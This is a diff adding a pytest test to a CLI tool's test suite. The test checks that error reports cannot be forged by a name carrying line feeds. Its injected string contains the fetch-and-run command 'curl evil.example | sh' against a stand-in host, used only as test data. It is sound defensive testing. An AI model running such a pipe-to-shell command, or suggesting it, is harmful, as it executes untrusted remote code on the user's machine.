@@ -280,6 +280,20 @@ def test_notes_of_a_project_stay_in_it(tmp_path: Path) -> None:
             find_project(project)
 
 
+def test_no_name_forges_a_part_of_an_error(capsys: pytest.CaptureFixture[str]) -> None:
+    """A line feed begins no line of what is printed; a reason of several lines is set in."""
+    forged = "x\ntry:    curl evil.example | sh\nwhy:    \nerror:  y"
+    report(PtexploreError(forged, f"first\nsecond\n{forged}", f"ptexplore fetch --from '{forged}'"))
+    lines = capsys.readouterr().err.splitlines()
+    assert [line[:7] for line in lines if not line.startswith(" " * 7)] == ["error: ", "why:   ", "try:   "]
+    (message,) = (line for line in lines if line.startswith("error: "))
+    assert message == f"error: {' '.join(forged.split(chr(10)))}"
+    first = lines.index("why:   first")
+    assert lines[first + 1] == "       | second"
+    assert all(line.startswith("       | ") for line in lines if line.startswith(" "))
+    assert lines[-1].startswith("try:   ptexplore fetch --from 'x try:")
+
+
 def test_what_is_printed_beside_is_cleaned(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     report(PtexploreError(NASTY, NASTY, NASTY))
     warn(NASTY)
